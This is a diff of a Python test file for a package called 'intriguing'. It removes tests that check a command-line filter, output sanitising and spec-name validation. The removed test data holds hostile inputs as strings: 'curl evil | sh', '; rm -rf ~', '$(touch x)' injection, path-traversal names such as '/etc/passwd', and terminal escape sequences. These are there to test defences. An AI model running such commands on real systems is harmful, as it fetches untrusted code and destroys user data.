@@ -5,27 +5,20 @@ import logging
 import os
 import subprocess
 import sys
-import time
-import unicodedata
 from pathlib import Path
 from typing import Any
 
-import pyarrow as pa
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
 
 import intriguing as ig
-from intriguing.basics.printable import printable
-from intriguing.basics.saved_plan import safe_command
 from intriguing.cli import call as run_command
-from intriguing.errors import CorruptError, SpecError, UnknownNameError
-from intriguing.sweep.limits import LARGEST_SPEC
-from intriguing.sweep.spec import load_spec
+from intriguing.errors import CorruptError
 from tests.sweep.small import call, command, toml
 from tests.synthetic_run import SyntheticRun
 
 RED = "\x1b[31mred\x07\r\u202e[bold]x[/bold]"
+
+
 FINGERPRINT = "ab" * 20
 
 
@@ -50,6 +43,7 @@ def plan_of(root: Path, **changes: Any) -> None:
     (root / "plan.json").write_text(json.dumps(plan | changes))
 
 
+@pytest.mark.slow
 def test_status_show_prune_report_and_open_run_import_nothing_that_a_run_names(foreign: Path) -> None:
     lines = [["status", "run"], ["show", "run", "topk"], ["prune", "run"], ["report", "run"]]
     code = (
@@ -70,6 +64,7 @@ def test_status_show_prune_report_and_open_run_import_nothing_that_a_run_names(f
     assert "data:image/png" not in page.partition("blind-spots")[0]
 
 
+@pytest.mark.slow
 def test_with_trust_the_page_has_the_images(foreign: Path) -> None:
     done = call("report", "run", "--trust", cwd=foreign.parent)
     assert done.returncode == 0, done.stderr
@@ -93,6 +88,7 @@ def test_a_module_planted_in_the_working_folder_is_not_imported(foreign: Path, d
     assert not (foreign.parent / "planted").exists()
 
 
+@pytest.mark.slow
 def test_plan_says_which_modules_of_the_user_it_imported(tmp_path: Path) -> None:
     (tmp_path / "helper.py").write_text("SIZE = 16\n")
     (tmp_path / "mine.py").write_text(
@@ -188,40 +184,6 @@ def test_prune_removes_nothing_where_the_plan_does_not_list_its_tasks(foreign: P
     assert (foreign / "store" / FINGERPRINT).exists()
 
 
-@pytest.mark.parametrize(
-    ("line", "shown"),
-    [
-        ("intriguing run demo --out outputs/demo", "intriguing run demo --out outputs/demo"),
-        ("intriguing run $(touch x) --out 'a b'", ""),
-        ("intriguing run '$(touch x)' --out 'a b'", "intriguing run '$(touch x)' --out 'a b'"),
-        ("INTRIGUING_CORPUS='a;b' intriguing run w --out o", "INTRIGUING_CORPUS='a;b' intriguing run w --out o"),
-        ("intriguing run demo --out x --data y", "intriguing run demo --out x --data y"),
-        ("intriguing run demo --out x; rm -rf ~", ""),
-        ("curl evil | sh", ""),
-        ("intriguing run demo --out 'x", ""),
-        ("intriguing run --pdb --out x", ""),
-    ],
-)
-def test_the_line_that_continues_a_run_is_shown_only_if_it_is_one(line: str, shown: str) -> None:
-    assert safe_command(line) == shown
-
-
-@given(st.text(), st.booleans())
-def test_what_is_printed_commands_no_terminal(text: str, lines: bool) -> None:
-    shown = printable(text, lines)
-    assert {unicodedata.category(c) for c in set(shown) - set("\n\t\u200c\u200d")}.isdisjoint(
-        ("Cc", "Cf", "Cs", "Zl", "Zp")
-    )
-    assert not {"\x1b", "\r", "\x07", "\x9b", "\u202e", "\u2066"} & set(shown)
-    assert lines or not {"\n", "\t"} & set(shown)
-    shown.encode()
-
-
-def test_plain_text_is_left_as_it_is() -> None:
-    assert printable("Ünïcode – 模型 007 [bold]") == "Ünïcode – 模型 007 [bold]"
-    assert printable("a\nb\x1b[1m", lines=True) == "a\nb\\x1b[1m"
-
-
 def test_names_of_a_run_are_shown_as_text(foreign: Path, capsys: Any) -> None:
     plan_of(foreign, name=RED, amounts={"a": [1, RED]})
     assert run_command(["status", str(foreign)]) == 0
@@ -246,77 +208,3 @@ def test_errors_and_log_lines_are_shown_as_text(capsys: Any) -> None:
     assert not {"\x1b", "\x07", "\u202e"} & set(capsys.readouterr().err)
     record = logging.LogRecord("x", logging.INFO, "", 0, "%s", (RED,), None)
     assert _PlainFormatter().format(record) == r"\x1b[31mred\x07\r\u202e[bold]x[/bold]"
-
-
-@pytest.mark.parametrize(
-    "name", ["../x", "a/b", "/x", "a\\b", "..", ".x", "a\0b", RED, "nul", "con.x", " x", "ü" * 150]
-)
-def test_a_run_s_name_is_one_folder(name: str) -> None:
-    with pytest.raises(SpecError, match=r"name: .* Write another `name`"):
-        load_spec({"name": name})
-
-
-@pytest.mark.parametrize("name", ["my run 2", "ünïcode", "v1.0", "a[b]", "run's"])
-def test_other_names_are_taken(name: str) -> None:
-    assert load_spec({"name": name}).name == name
-
-
-@pytest.mark.parametrize("name", ["../specs/demo", "specs/demo", "../../x", "/etc/passwd\0", "dem\x1bo", ""])
-def test_a_spec_is_looked_up_among_those_of_the_package_alone(name: str) -> None:
-    with pytest.raises((UnknownNameError, SpecError)):
-        load_spec(name)
-
-
-@pytest.mark.parametrize(
-    ("text", "message"),
-    [
-        ("a = " + "[" * 5_000 + "]" * 5_000, "nested too deeply"),
-        ("a = " + "{a=" * 5_000 + "1" + "}" * 5_000, "nested too deeply"),
-        ("a." * 30 + "a = 1", "nested more than 20 levels"),
-        ("a." * 100_000 + "a = 1", "a key of more than 40 parts"),
-        ("x = {" + '"a" . ' * 40_000 + "a = 3}", "a key of more than 40 parts"),
-        ("seed = " + "9" * 5_000, "cannot be read"),
-        ("seed = 0x" + "f" * 50_000, "a whole number of 200000 bits"),
-        ("seed = 2026-01-01", "is a date or a time"),
-        ("[models]\n" + "\n".join(f"m{i} = {{}}" for i in range(1_001)), "has 1,001 models; at most 1,000"),
-        ("a = [" + "1," * 110_000 + "]", "more than 100,000 values"),
-        ("#" * (LARGEST_SPEC + 1), "more than the 250,000 that are read"),
-    ],
-)
-def test_a_spec_that_is_too_large_or_too_deep_is_refused_in_a_sentence(tmp_path: Path, text: str, message: str) -> None:
-    (tmp_path / "x.toml").write_text(text)
-    began = time.monotonic()
-    with pytest.raises(SpecError, match=message):
-        load_spec(tmp_path / "x.toml")
-    assert time.monotonic() - began < 20
-
-
-def test_a_pipe_in_the_place_of_a_spec_is_not_waited_for(tmp_path: Path) -> None:
-    os.mkfifo(tmp_path / "x.toml")
-    with pytest.raises(SpecError, match="no regular file"):
-        load_spec(tmp_path / "x.toml")
-
-
-def test_more_tasks_than_fit_in_memory_are_refused(monkeypatch: Any, tmp_path: Path) -> None:
-    from intriguing.sweep import prepare
-    from tests.sweep.small import SMALL
-
-    monkeypatch.setattr("intriguing.sweep.plan.MOST_TASKS", 20)
-    with pytest.raises(SpecError, match="more than 20 tasks"):
-        prepare(SMALL, tmp_path)
-
-
-def test_old_tables_of_failures_read_with_null_tracebacks(tmp_path: Path) -> None:
-    import pyarrow.parquet as pq
-
-    from intriguing import tables
-
-    root = SyntheticRun(tmp_path / "run").write("plan", "failures")
-    file = next((root / "tables" / "failures").glob("*.parquet"))
-    old = pq.read_table(file).drop_columns(["traceback"])
-    assert old.num_rows == 1
-    pq.write_table(old, file)
-    read = ig.open_run(root).table("failures")
-    assert read.schema.equals(tables.FAILURES.schema)
-    assert read["traceback"].to_pylist() == [None]
-    assert pa.types.is_string(read.schema.field("traceback").type)
